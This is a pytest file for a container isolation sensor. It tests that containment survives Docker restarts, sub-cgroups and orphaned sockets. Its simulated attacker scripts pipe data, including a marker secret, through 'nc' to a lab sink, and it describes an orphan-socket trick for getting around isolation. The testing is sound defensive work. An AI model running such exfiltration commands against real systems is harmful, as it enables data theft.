"""Containment follows the container (issue 10): an isolation holds across
`docker restart` (same container id, new cgroup) with no packet leaving in
between, and covers sub-cgroups of the container.

The target shares the network namespace of a holder container (`--network
container:`), so it has a network from its very first instruction after a
restart and starts sending at once: every packet the restarted container
could send before containment applied would be counted by the egress
program (flow documents) and reach the sink."""

from __future__ import annotations

import datetime
import json
import os
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

from emulation.lab import wait_until
from sensor.attribution.cgroups import find_cgroup2_mount

from ..privileged.harness import (
    IMAGE,
    SINK_IP,
    Docker,
    SensorProc,
    SinkNet,
    action,
    cid_of,
    only_containment_entry,
    run_container,
    sluice_cli,
)

PORT, SUB_PORT = 9003, 9004


def _sink_conns(net: SinkNet, port: int) -> int:
    """Connections the sink accepted on `port`. Counted at accept: a
    connection that isolation cut mid-stream is recorded as ended only at
    the sink's 30 s read timeout, which once made it look like a connection
    from the restarted container."""
    return sum(1 for r in net.received() if r.get("proto") == "accept" and r.get("port") == port)


def _left(s: SensorProc, cid: str, port: int, after: float) -> int:
    """Bytes the egress program let out of the container to the sink port
    in windows that started after `after` (wall clock)."""
    total = 0
    for d in s.docs():
        if action(d) != "flow_summary" or cid_of(d) != cid or d["destination"]["port"] != port:
            continue
        start = datetime.datetime.fromisoformat(d["event"]["start"].replace("Z", "+00:00")).timestamp()
        if start >= after:
            total += int(d["source"]["bytes"])
    return total


def test_isolation_holds_across_restart_and_sub_cgroups(base: Path, docker: Docker, net: SinkNet) -> None:
    s = SensorProc(base, docker.sock, name="follow")
    s.start()
    holder = run_container(docker, net, "sleep 600", wait=False)
    loop = f"i=0; while true; do echo r$i | nc -w 1 {SINK_IP} {PORT}; i=$((i+1)); usleep 50000; done"
    target = docker.docker("run", "-d", "--network", f"container:{holder}", IMAGE, "sh", "-c", loop)
    cg2 = find_cgroup2_mount()
    sub = Path(cg2) / "docker" / target / "sub"
    try:
        deadline = time.monotonic() + 20
        while _sink_conns(net, PORT) < 3:
            assert time.monotonic() < deadline, "the target's traffic never reached the sink"
            time.sleep(0.2)
        s.wait_for(lambda d: cid_of(d) == target, what="a document about the target", timeout=10)
        sluice_cli(s, "isolate", target[:12], "--reason", "restart test")
        # connections in flight finish: the entry drops packets and the sink's
        # count stops moving (a condition, not a fixed sleep)
        deadline = time.monotonic() + 20
        before, still_since = _sink_conns(net, PORT), time.monotonic()
        while True:
            now_conns = _sink_conns(net, PORT)
            if now_conns != before:
                before, still_since = now_conns, time.monotonic()
            if only_containment_entry(s)["dropped"] > 0 and time.monotonic() - still_since >= 1.5:
                break
            assert time.monotonic() < deadline, (only_containment_entry(s), now_conns)
            time.sleep(0.2)
        dropped_before = only_containment_entry(s)["dropped"]
        assert dropped_before > 0

        # restart: same container id, new cgroup; the script sends at once
        old_cg = only_containment_entry(s)["cgroup_ids"]
        t_restart = time.time()
        docker.docker("restart", "-t", "1", target)
        started = docker.docker("inspect", "-f", "{{.State.StartedAt}}", target)
        time.sleep(4)  # the restarted container keeps trying
        assert _sink_conns(net, PORT) == before, "a connection from the restarted container reached the sink"
        s.settle()
        leaked = _left(s, target, PORT, t_restart)
        assert leaked == 0, f"{leaked} bytes left the restarted container (started {started})"
        followed = s.wait_for(
            lambda d: action(d) == "containment_followed" and cid_of(d) == target,
            what="containment_followed document",
            timeout=15,
        )
        assert "in the kernel when the cgroup was created" in followed["message"], followed["message"]
        e = only_containment_entry(s)
        assert e["cgroup_ids"] != old_cg
        assert e["dropped"] > dropped_before, "the restarted container never tried to send"
        stats = json.loads(s.status("--json").stdout)
        assert stats["drops"].get("containment_map_full", 0) == 0

        # a sub-cgroup of the container (a delegated subtree): still isolated
        script = f"sleep 2; echo sub | nc -w 1 {SINK_IP} {SUB_PORT}; touch /tmp/sub-done"
        docker.docker("exec", "-d", target, "sh", "-c", script)
        pid = ""
        deadline = time.monotonic() + 5
        while not pid and time.monotonic() < deadline:
            found = subprocess.run(["pgrep", "-f", "sleep 2; echo sub"], capture_output=True, text=True).stdout.split()
            pid = found[0] if found else ""
            time.sleep(0.05)
        assert pid, "the sub-cgroup sender did not start"
        sub.mkdir()
        (sub / "cgroup.procs").write_text(pid)
        d0 = only_containment_entry(s)["dropped"]
        deadline = time.monotonic() + 10
        while docker.docker("exec", target, "ls", "/tmp/sub-done", check=False) == "":
            assert time.monotonic() < deadline, "the sub-cgroup sender did not finish"
            time.sleep(0.3)
        assert _sink_conns(net, SUB_PORT) == 0, "a connection from the container's sub-cgroup reached the sink"
        assert only_containment_entry(s)["dropped"] > d0
        print(f"restart: {e['dropped'] - dropped_before} packets of the restarted container dropped, 0 left")
    finally:
        docker.docker("rm", "-f", target, holder, check=False)
        if sub.exists():
            for _ in range(20):
                try:
                    os.rmdir(sub)
                    break
                except OSError:
                    time.sleep(0.2)
        assert s.stop() == 0


ORPHAN_PORT = 9005
SECRET = "SECRET-WRITTEN-WHILE-ISOLATED"


@pytest.mark.parametrize("end", ["restart", "remove"])
def test_what_was_written_while_isolated_never_leaves_after_the_container(
    base: Path, docker: Docker, net: SinkNet, end: str
) -> None:
    """The attacker's way around a restart: a connection set up before the
    isolation, data written into it while isolated (dropped, so queued for
    retransmission), then the container killed. Its socket becomes an
    orphan that keeps retransmitting under the old cgroup after the
    container runs again in a new one (in a shared network namespace, as in
    a pod), or after the container was removed. The old cgroup must stay
    contained: once it was released, the next retransmission carried the
    data out (44 bytes reached the sink before the fix)."""
    s = SensorProc(base, docker.sock, name=f"orphan-{end}")  # its own state file
    s.start()
    holder = run_container(docker, net, "sleep 600", wait=False)
    script = (
        f"{{ echo pre-isolation; while [ ! -e /tmp/go ]; do usleep 100000; done; echo {SECRET}; sleep 600; }}"
        f" | nc {SINK_IP} {ORPHAN_PORT}"
    )
    target = docker.docker("run", "-d", "--network", f"container:{holder}", IMAGE, "sh", "-c", script)
    try:
        assert wait_until(lambda: _sink_conns(net, ORPHAN_PORT) >= 1, 20), "the connection never reached the sink"
        s.wait_for(lambda d: cid_of(d) == target, what="a document about the target", timeout=10)
        sluice_cli(s, "isolate", target[:12], "--reason", "orphan test")
        docker.docker("exec", target, "touch", "/tmp/go")  # the secret is written, and dropped
        time.sleep(1)
        # the socket is orphaned with the secret queued
        if end == "restart":
            docker.docker("restart", "-t", "1", target)
            s.wait_for(
                lambda d: action(d) == "containment_followed" and cid_of(d) == target,
                what="containment_followed document",
                timeout=15,
            )
        else:
            docker.docker("rm", "-f", target)
            released = s.wait_for(
                lambda d: action(d) == "containment_released" and cid_of(d) == target,
                what="containment_released document",
                timeout=30,
            )
            assert "stay contained in the kernel" in released["message"], released["message"]

        # the sink records the connection when it ends: with the secret and
        # a FIN if a retransmission got out, else at its 30 s read timeout
        def ended() -> list[dict[str, Any]]:
            return [r for r in net.received() if r.get("proto") == "tcp" and r["port"] == ORPHAN_PORT]

        assert wait_until(ended, 45, 0.5), "the sink never closed the connection"
        assert ended()[0]["bytes"] == len("pre-isolation\n"), f"the orphan's retransmission left the node: {ended()}"
        e = only_containment_entry(s)
        if end == "restart":
            assert e["state"] == "active" and e["former_cgroup_ids"], e
        else:
            # listed as what the gone container left, with the orphan's
            # dropped retransmissions; an operator can let it go by its id
            assert e["state"] == "lingering" and e["container_id"] == target and e["dropped"] > 0, e
            assert "released: isolate" in sluice_cli(s, "release", target[:12])
            assert sluice_cli(s, "containment").strip() == "nothing is contained"
    finally:
        docker.docker("rm", "-f", target, holder, check=False)
